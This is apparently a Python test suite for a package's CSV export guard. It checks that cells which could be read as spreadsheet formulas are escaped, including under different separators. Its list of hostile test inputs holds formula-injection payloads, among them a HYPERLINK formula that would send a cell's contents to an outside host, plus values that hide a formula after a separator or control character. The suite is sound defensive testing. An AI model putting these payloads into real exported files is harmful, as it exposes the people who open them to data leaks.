"""No cell of a CSV file is a formula, whatever a sender wrote and whichever separator the spreadsheet expects."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import nytta
from nytta.cli.common import show
from nytta.registry import declarations
from nytta.surfaces.spreadsheets import csv_text, guarded

FORMULAS = "=+-@＝＋－＠"
HARMLESS = (
    "-3.5",
    "+4",
    "-3,5",
    "1e-07",
    "-12 000,5 %",
    "-12\u00a0000",
    "−3 %",
    "–",
    "",
    "a-b",
    "Enhet 7",
    "x@y.se",
    "≤ 5",
)
HOSTILE = (
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\t", "\0=1", " =1+1", '"=1+1', "-", "-3.5 x", "＝1+1"),
    '=HYPERLINK("http://example.org/?"&A1,"unit")',
    "Unit;=1+1",
    "Unit;-2+3",
    'Unit;"=1+1"',
    "Unit\t@A1",
    "Unit\n+A1",
)
TEXTS = st.text(st.sampled_from("=+-@＝＠;,\t\r\n\0\"' a1.%") | st.characters(codec="utf-8"), max_size=12)


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet may calculate a cell, one that drops white space and quotes before it too."""
    return cell.lstrip('\0"\t\r\n \u00a0\u2003')[:1] in tuple(FORMULAS)


def read(text: str, separator: str = ",") -> list[list[str]]:
    """As a spreadsheet parts a file whose list separator it is."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_could_be_calculated_is_text(text: str) -> None:
    assert "'" in guarded(text)
    for separator in ",;\t":
        assert not any(dangerous(cell) for row in read(csv_text(["name"], [["u", text]]), separator) for cell in row)


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_words_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_every_number_stays_a_number(value: float) -> None:
    assert float(read(csv_text(["value"], [[value]]))[1][0]) == float(value)


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), max_size=4), st.sampled_from(["\n", "\r\n"]))
def test_no_text_becomes_a_formula_with_any_separator(rows: list[list[str]], end: str) -> None:
    text = csv_text(["unit", "name"], [["u", *row] for row in rows], end)
    for separator in ",;\t":
        for row in read(text, separator):
            assert not any(dangerous(cell) and guarded(cell) != cell for cell in row), (separator, row)


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), max_size=4))
def test_rows_stay_rows_and_texts_lose_nothing(rows: list[list[str]]) -> None:
    found = read(csv_text(["unit", "name"], rows))
    assert found == [["unit", "name"], *([guarded(cell) for cell in row] for row in rows)]
    for row, told in zip(rows, found[1:], strict=True):
        for cell, shown in zip(row, told, strict=True):
            assert shown.replace("'", "") == cell.replace("'", "")
            assert shown[:1] not in ("\t", "\r", "\0")


def test_a_guarded_text_is_not_guarded_twice() -> None:
    for text in HOSTILE[:4]:
        assert guarded(text) == f"'{text}" == guarded(guarded(text))


def test_lists_and_nothing() -> None:
    assert read(csv_text(["a", "b", "c"], [[None, ["x", "=y"], ()]])) == [["a", "b", "c"], ["", "x;' =y", ""]]


def test_a_command_s_table_is_guarded(capsys: pytest.CaptureFixture[str]) -> None:
    rows: list[dict[str, Any]] = [{"unit": "=1+1", "value": -3.5, "left": "out"}, {"unit": "@x", "value": None}]
    show(rows, False, ("unit", "value"), as_csv=True)
    assert capsys.readouterr().out == "unit,value\n'=1+1,-3.5\n'@x,\n"


def test_csv_and_workbooks_are_written_in_one_place_each() -> None:
    """Nothing else in the package has a writer of tables, by whichever name it is imported."""
    root = Path(str(nytta.__path__[0]))
    writers = {"writer", "DictWriter", "write_csv", "CSVWriter", "to_csv", "Workbook"}
    found = set()
    for path in root.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            names = {node.attr} if isinstance(node, ast.Attribute) else set()
            if isinstance(node, ast.ImportFrom):
                names = {alias.name for alias in node.names}
            if names & writers:
                found.add(str(path.relative_to(root)))
    assert found == {"surfaces/spreadsheets.py", "surfaces/workbooks.py"}


@pytest.mark.parametrize("path", sorted((declarations.schemas() / "mappings" / "templates").glob("*.csv")), ids=str)
def test_shipped_templates_hold_no_formula(path: Path) -> None:
    assert not any(dangerous(cell) for row in read(path.read_text("utf-8"), ";") for cell in row)
